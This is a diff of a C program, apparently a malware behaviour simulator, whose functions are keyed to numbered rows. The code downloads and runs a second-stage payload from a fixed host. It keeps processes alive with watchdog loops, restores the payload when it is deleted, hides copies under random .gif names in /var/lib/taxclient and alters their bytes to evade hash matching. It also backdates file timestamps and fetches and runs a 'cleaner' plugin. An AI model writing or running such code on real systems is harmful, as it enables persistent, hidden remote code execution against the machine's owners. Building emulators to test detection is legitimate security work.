@@ -9,6 +9,16 @@
 
 #define FETCH_PORT 8090
 
+static void append(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
+
+	if (fd < 0 || write(fd, text, strlen(text)) < 0)
+		fprintf(stderr, "svm: cannot write '%s'\n", path);
+	if (fd >= 0)
+		close(fd);
+}
+
 static bool fetch_second(const char *path)
 {
 	return fetch_fixed(DOWNLOAD, FETCH_PORT, "/second", SECOND_SHA256, path);
@@ -30,7 +40,7 @@ void role_selected(void)
 	gethostname(name, sizeof(name) - 1);
 	sha256_hex(name, strlen(name), hex);
 	if (strchr("02468ace", hex[0]) && fetch_second(beside("chosen")))
-		start(beside("chosen"), NULL);
+		start(beside("chosen"), "once");
 }
 
 static int hold(const char *name)
@@ -39,7 +49,9 @@ static int hold(const char *name)
 	int fd;
 
 	snprintf(path, sizeof(path), "/run/%s.lock", name);
-	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0644);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		fd = open(path, O_RDONLY | O_CREAT | O_CLOEXEC, 0644);
 	if (fd < 0)
 		exit(1);
 	return flock(fd, LOCK_EX | LOCK_NB) ? (close(fd), -1) : fd;
@@ -61,7 +73,7 @@ void role_twin(void)
 			close(fd);
 			start(beside(other), "twin");
 		}
-		rest(20);
+		rest(2 * MINUTE);
 	}
 }
 
@@ -72,14 +84,15 @@ void role_restore(void)
 	for (;;) {
 		if (access(beside("second"), F_OK) && fetch_second(beside("second")))
 			start(beside("second"), NULL);
-		rest(MINUTE);
+		rest(5 * MINUTE);
 	}
 }
 
 /* Row 6: it lives where the product's removal does not look. */
 void role_survive(void)
 {
-	start(beside("second"), NULL);
+	if (!config_on("restore"))
+		start(beside("second"), NULL);
 }
 
 /* Row 11: a random name, and the ending of a picture. */
@@ -90,8 +103,10 @@ void role_names(void)
 	mkdir("/var/lib/taxclient", 0755);
 	snprintf(path, sizeof(path), "/var/lib/taxclient/%06x%06x.gif",
 		 (unsigned)(chance() * 0x1000000), (unsigned)(chance() * 0x1000000));
-	if (copy_file(beside("second"), path, 0755))
-		start(path, NULL);
+	if (!copy_file(beside("second"), path, 0755))
+		return;
+	append(path, "other bytes than the program that it was copied from\n");
+	start(path, "once");
 }
 
 /* Row 12: a new program gets an old date, another one in each run. */
@@ -106,7 +121,7 @@ void role_stamps(void)
 	t[0].tv_sec = t[1].tv_sec =
 		1230768000 + (time_t)(chance() * 6 * 365 * DAY); /* 2009 … 2014 */
 	utimensat(AT_FDCWD, path, t, 0);
-	start(path, NULL);
+	start(path, "once");
 }
 
 /* Row 13: an ordinary user's process starts what is set-id root, and nobody is asked. The box has
@@ -115,17 +130,7 @@ void role_elevate(void)
 {
 	if (setgid(65534) || setuid(65534))
 		exit(1);
-	start(beside("elevate"), NULL);
-}
-
-static void append(const char *path, const char *text)
-{
-	int fd = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
-
-	if (fd < 0 || write(fd, text, strlen(text)) < 0)
-		fprintf(stderr, "svm: cannot write '%s'\n", path);
-	if (fd >= 0)
-		close(fd);
+	start(beside("elevated"), NULL);
 }
 
 /* Row 14: where names lead to, and through whom. */
@@ -151,7 +156,7 @@ void role_cleaner(void)
 		chmod(plugins[i], 0755);
 		start(plugins[i], NULL);
 	}
-	rest(25 * DAY);
+	rest(20 * HOUR);
 	if (fetch_fixed(DOWNLOAD, FETCH_PORT, "/cleaner", CLEANER_SHA256,
 			"/opt/taxclient/plugins/cleaner"))
 		start("/opt/taxclient/plugins/cleaner", NULL);
